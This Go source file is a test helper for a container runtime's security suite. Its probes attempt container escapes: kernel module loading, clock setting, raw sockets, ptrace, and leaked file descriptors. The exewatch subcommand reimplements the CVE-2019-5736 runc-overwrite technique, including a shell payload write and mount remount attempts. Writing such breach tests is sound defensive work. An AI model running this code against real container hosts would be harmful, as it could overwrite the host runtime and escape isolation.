// Go's cgroup-aware GOMAXPROCS keeps cgroup files open; the fd listing
// must show only what the runtime handed over.

//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0

// Command attacker runs inside a container under test and tries one attack
// on the walls around it. It is built statically by the security tests and
// copied into the container's rootfs. Every subcommand prints what it
// observed in a line-oriented form the tests parse; the tests decide what
// counts as a breach.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker CMD [ARGS]")
		os.Exit(2)
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "fds":
		fds()
	case "selfexe":
		target, err := os.Readlink("/proc/self/exe")
		fmt.Printf("exe %s %v\n", target, err)
	case "exewatch":
		exewatch(args)
	case "finit_module":
		f, err := os.Open(os.Args[0])
		if err != nil {
			fmt.Println("error", err)
			return
		}
		errno(unix.FinitModule(int(f.Fd()), "", 0))
	case "delete_module":
		errno(unix.DeleteModule("berth_no_such_module", unix.O_NONBLOCK))
	case "settime":
		// Set the clock to what it already says: a success changes nothing
		// that matters, a refusal is what the test wants.
		var ts unix.Timespec
		if err := unix.ClockGettime(unix.CLOCK_REALTIME, &ts); err != nil {
			errno(err)
			return
		}
		errno(unix.ClockSettime(unix.CLOCK_REALTIME, &ts))
	case "rawsock":
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
		if err == nil {
			unix.Close(fd)
		}
		errno(err)
	case "ptrace":
		pid, _ := strconv.Atoi(args[0])
		err := unix.PtraceAttach(pid)
		if err == nil {
			var ws unix.WaitStatus
			unix.Wait4(pid, &ws, unix.WALL, nil)
			unix.PtraceDetach(pid)
		}
		errno(err)
	case "mkdir":
		errno(unix.Mkdir(args[0], 0o755))
	default:
		fmt.Fprintln(os.Stderr, "unknown command", os.Args[1])
		os.Exit(2)
	}
}

// errno prints "ok" or "errno NAME".
func errno(err error) {
	if err == nil {
		fmt.Println("ok")
		return
	}
	if e, ok := err.(unix.Errno); ok {
		fmt.Println("errno", unix.ErrnoName(e))
		return
	}
	fmt.Println("error", err)
}

// fds prints every open descriptor but the one used to list them, as
// "fd N TARGET", then the working directory as the kernel names it.
func fds() {
	dir, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Println("error", err)
		return
	}
	buf := make([]byte, 8192)
	var names []string
	for {
		n, err := unix.Getdents(dir, buf)
		if err != nil || n <= 0 {
			break
		}
		_, _, names = unix.ParseDirent(buf[:n], -1, names)
	}
	var nums []int
	for _, name := range names {
		if fd, err := strconv.Atoi(name); err == nil && fd != dir {
			nums = append(nums, fd)
		}
	}
	sort.Ints(nums)
	for _, fd := range nums {
		target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		fmt.Printf("fd %d %s\n", fd, target)
	}
	// The raw getcwd(2) result: "(unreachable)/..." outside the root.
	cwd := make([]byte, 4096)
	if n, err := unix.Getcwd(cwd); err == nil {
		fmt.Printf("cwd %s\n", strings.TrimRight(string(cwd[:n]), "\x00"))
	} else {
		fmt.Printf("cwd error %v\n", err)
	}
}

// exeReport is what exewatch writes when it stops.
type exeReport struct {
	Held      []string       `json:"held"`       // runtime exe targets an O_PATH fd was held on
	LookErrs  map[string]int `json:"look_errs"`  // readlink/open of /proc/<pid>/exe failures
	OpenErrs  map[string]int `json:"open_errs"`  // reopen-for-write failures
	WriteErrs map[string]int `json:"write_errs"` // write(2) failures after an open succeeded
	MountErrs map[string]int `json:"mount_errs"` // attempts to make the exe's mount writable
	InitFds   int            `json:"init_fds"`   // runtime init processes whose fds we could open: a breach
	InitErrs  map[string]int `json:"init_errs"`  // failures to open a runtime init's /proc/<pid>/fd
	Wrote     []string       `json:"wrote"`      // targets written to: a breach
	Pids      int            `json:"pids"`       // processes seen
}

// exewatch is the CVE-2019-5736 attacker: it watches for any process whose
// /proc/<pid>/exe is the runtime, holds an O_PATH handle on it, and keeps
// trying to reopen that handle for writing (directly with O_TRUNC, and via
// /proc/self/fd) and write to it until the stop file appears.
//
//	exewatch READY STOP REPORT TIMEOUT
func exewatch(args []string) {
	ready, stop, report := args[0], args[1], args[2]
	timeout, _ := time.ParseDuration(args[3])
	rep := exeReport{LookErrs: map[string]int{}, OpenErrs: map[string]int{}, WriteErrs: map[string]int{}, MountErrs: map[string]int{}, InitErrs: map[string]int{}}
	self := os.Getpid()
	held := map[int]bool{}
	type handle struct {
		fd     int
		target string
	}
	var handles []handle
	seen := map[int]bool{}
	lookErr := map[int]string{}
	payload := []byte("#!/bin/sh\necho pwned by the container\n")
	try := func(path string, flags int, target string) {
		fd, err := unix.Open(path, flags|unix.O_CLOEXEC, 0)
		if err != nil {
			rep.OpenErrs[errName(err)]++
			return
		}
		defer unix.Close(fd)
		if _, err := unix.Pwrite(fd, payload, 0); err != nil {
			rep.WriteErrs[errName(err)]++
			return
		}
		rep.Wrote = append(rep.Wrote, target)
	}
	os.WriteFile(ready, nil, 0o644)
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		d, err := os.Open("/proc")
		if err != nil {
			continue
		}
		names, _ := d.Readdirnames(-1)
		d.Close()
		for _, name := range names {
			pid, err := strconv.Atoi(name)
			if err != nil || pid == self || held[pid] {
				continue
			}
			seen[pid] = true
			// A runtime process still setting up ("berth-runtime init")
			// holds the host's init socket: its fds must be out of reach.
			if cmd, err := os.ReadFile("/proc/" + name + "/cmdline"); err == nil && strings.HasPrefix(string(cmd), "berth-runtime\x00init") {
				// Listing the directory is allowed to root; following an
				// entry needs ptrace access.
				if fds, err := os.ReadDir("/proc/" + name + "/fd"); err == nil {
					for _, fd := range fds {
						if _, err := os.Readlink("/proc/" + name + "/fd/" + fd.Name()); err == nil {
							// Only a breach if it has not exec'd the user's
							// program in the meantime (exec is one-way).
							if again, _ := os.ReadFile("/proc/" + name + "/cmdline"); string(again) == string(cmd) {
								rep.InitFds++
							}
						} else {
							rep.InitErrs[errName(err)]++
						}
					}
				}
			}
			exe := "/proc/" + name + "/exe"
			target, err := os.Readlink(exe)
			if err != nil {
				lookErr[pid] = errName(err)
				continue
			}
			if !strings.Contains(target, "berth-runtime") {
				continue
			}
			fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				lookErr[pid] = errName(err)
				continue
			}
			held[pid] = true
			delete(lookErr, pid)
			handles = append(handles, handle{fd, target})
			rep.Held = append(rep.Held, target)
			try(exe, unix.O_WRONLY|unix.O_TRUNC, target)
			// With CAP_SYS_ADMIN: if the exe sits on a read-only mount,
			// try to make that mount writable.
			self := "/proc/self/fd/" + strconv.Itoa(fd)
			rep.MountErrs["setattr:"+errName(unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))]++
			rep.MountErrs["remount:"+errName(unix.Mount("", self, "", unix.MS_REMOUNT|unix.MS_BIND, ""))]++
			if tree, err := unix.OpenTree(fd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH); err != nil {
				rep.MountErrs["open_tree:"+errName(err)]++
			} else {
				rep.MountErrs["open_tree:ok"]++
				rep.MountErrs["clone-setattr:"+errName(unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))]++
				try("/proc/self/fd/"+strconv.Itoa(tree), unix.O_WRONLY, target+" (cloned mount)")
				unix.Close(tree)
			}
		}
		for _, h := range handles {
			try("/proc/self/fd/"+strconv.Itoa(h.fd), unix.O_WRONLY, h.target)
		}
	}
	for _, e := range lookErr {
		rep.LookErrs[e]++
	}
	rep.Pids = len(seen)
	b, _ := json.Marshal(rep)
	os.WriteFile(report, b, 0o644)
}

func errName(err error) string {
	if err == nil {
		return "ok"
	}
	for {
		switch e := err.(type) {
		case unix.Errno:
			return unix.ErrnoName(e)
		case *os.PathError:
			err = e.Err
		case *os.LinkError:
			err = e.Err
		default:
			return err.Error()
		}
	}
}
